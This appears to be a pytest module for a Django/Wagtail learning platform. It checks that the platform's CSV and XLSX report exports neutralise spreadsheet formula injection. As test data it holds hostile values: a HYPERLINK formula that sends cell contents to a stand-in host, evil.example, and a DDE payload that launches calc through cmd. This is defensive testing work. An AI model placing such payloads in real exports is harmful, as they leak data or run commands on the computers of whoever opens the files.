"""Review 27: every export opens and runs no formula, whatever a title or a
name holds (a formula, an XML-illegal control character such as BEL, or a
control character in front of a formula): the CME reports' CSVs, the
mentoring programme report's CSV and Wagtail's own report exports (CSV and
XLSX)."""

import csv
import io

from django.urls import reverse
from django.utils import timezone

import openpyxl
import pytest

from cms import spreadsheets
from mentoring.models import Role
from tests.factories import (
    GuidePageFactory,
    InstitutionFactory,
    InstitutionStaffFactory,
    LearnerFactory,
    LearningPathPageFactory,
    UserFactory,
)
from tests.factories.mentoring import ParticipationFactory, ProgrammeFactory

from .conftest import complete

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
HOSTILE = (FORMULA, f"\x07{FORMULA}", "Bell\x07 and \x1b escape", "\x01+1-cmd|' /C calc'!A0")
TRIGGERS = tuple(spreadsheets.TRIGGERS)


def csv_cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(values):
    """No text cell starts with what a spreadsheet reads as a formula."""
    live = [v for v in values if isinstance(v, str) and v.lstrip(" \u00a0").startswith(TRIGGERS)]
    assert not live, live


def test_cme_report_csvs_are_inert(client, django_capture_on_commit_callbacks):
    institution = InstitutionFactory(name=HOSTILE[1])
    staff = InstitutionStaffFactory(username="staff-x")
    institution.staff.add(staff)
    paths = [
        LearningPathPageFactory(title=title, slug=f"p{i}", institution=institution)
        for i, title in enumerate(HOSTILE)
    ]
    with django_capture_on_commit_callbacks(execute=True):
        complete(LearnerFactory(username="doc", profile__full_name=HOSTILE[1]), paths[1])
    client.force_login(staff)
    summary = client.get(reverse("learning_reports_export"))
    assert summary.status_code == 200
    cells = csv_cells(summary.content.decode())
    assert f"'{FORMULA}" in cells
    assert_inert(cells)
    report = client.get(reverse("learning_path_report_csv", args=(paths[1].pk,)))
    assert report.status_code == 200
    assert_inert(csv_cells(report.content.decode()))


def test_transcript_csv_is_inert(client, django_capture_on_commit_callbacks):
    institution = InstitutionFactory(name=HOSTILE[3])
    path = LearningPathPageFactory(title=HOSTILE[1], slug="path", institution=institution)
    learner = LearnerFactory(username="doc", profile__full_name="Yara Young")
    with django_capture_on_commit_callbacks(execute=True):
        complete(learner, path)
    client.force_login(learner)
    response = client.get("/me/transcript/transcript.csv")
    assert response.status_code == 200
    assert_inert(csv_cells(response.content.decode()))


def test_mentoring_programme_report_csv_is_inert(client):
    institution = InstitutionFactory(name=HOSTILE[1])
    staff = InstitutionStaffFactory(username="staff-m")
    institution.staff.add(staff)
    programme = ProgrammeFactory(institution=institution, title=HOSTILE[1], slug="prog")
    ParticipationFactory(programme=programme, user=UserFactory(), role=Role.MENTEE)
    client.force_login(staff)
    response = client.get(reverse("mentoring_programme_report_csv", args=(programme.pk,)))
    assert response.status_code == 200
    assert_inert(csv_cells(response.content.decode()))


@pytest.fixture
def hostile_pages():
    now = timezone.now()
    return [
        GuidePageFactory(title=title, slug=f"hostile-{i}", last_published_at=now)
        for i, title in enumerate(HOSTILE)
    ]


def test_wagtail_report_xlsx_opens_and_is_inert(client, hostile_pages):
    client.force_login(UserFactory(username="root", superuser=True))
    response = client.get("/admin/reports/aging-pages/?export=xlsx")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    values = [cell.value for cell in cells]
    # The control characters are gone, and so the formula behind BEL is
    # neutralised like the plain one (cms.spreadsheets.cell_text).
    assert values.count(f"'{FORMULA}") == 2 and "Bell and  escape" in values
    assert all(cell.data_type != "f" for cell in cells)
    assert_inert(values)


def test_wagtail_report_csv_is_inert(client, hostile_pages):
    client.force_login(UserFactory(username="root", superuser=True))
    response = client.get("/admin/reports/aging-pages/?export=csv")
    assert response.status_code == 200
    cells = csv_cells(b"".join(response.streaming_content).decode())
    assert f"'{FORMULA}" in cells
    assert_inert(cells)
